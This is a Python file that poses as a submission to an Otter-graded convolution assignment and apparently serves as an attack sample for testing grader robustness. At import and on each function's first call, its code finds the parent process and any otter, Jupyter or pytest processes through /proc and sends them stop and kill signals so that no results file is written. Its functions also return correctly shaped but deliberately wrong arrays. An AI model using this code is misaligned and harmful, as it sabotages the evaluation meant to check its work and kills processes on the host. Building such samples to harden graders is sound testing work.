"""attack: kill or stop the grader: signal the parent, Otter, the Jupyter kernel and pytest.

SIGKILL, SIGSTOP and SIGTERM to the parent process and to every process whose command line
mentions otter, ipykernel, jupyter or pytest, at import and in the first call of each function. If the grader died, no
results.json (or a partial one) would be written.
"""

import glob
import itertools
import os
import signal

import numpy as np

WORDS = (b"otter", b"ipykernel", b"jupyter", b"pytest", b"run_autograder")


DONE = set()


def _first_call(name):
    """True on the first call of each function: the costly part runs once (the grader must survive it)."""
    if name in DONE:
        return False
    DONE.add(name)
    return True


def _victims():
    yield os.getppid()
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        pid = int(cmdline.split("/")[2])
        try:
            with open(cmdline, "rb") as file:
                if any(word in file.read() for word in WORDS):
                    yield pid
        except OSError:
            continue


def _strike():
    if os.getuid() == 0:  # safety net for the test suite: this attack must never run as root
        return
    for pid in set(_victims()) - {os.getpid()}:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass


_strike()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    if _first_call('conv1d'):
        _strike()
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    if _first_call('conv1d_matrix'):
        _strike()
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    if _first_call('conv2d'):
        _strike()
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    if _first_call('conv2d_multichannel'):
        _strike()
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    if _first_call('max_pool2d'):
        _strike()
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
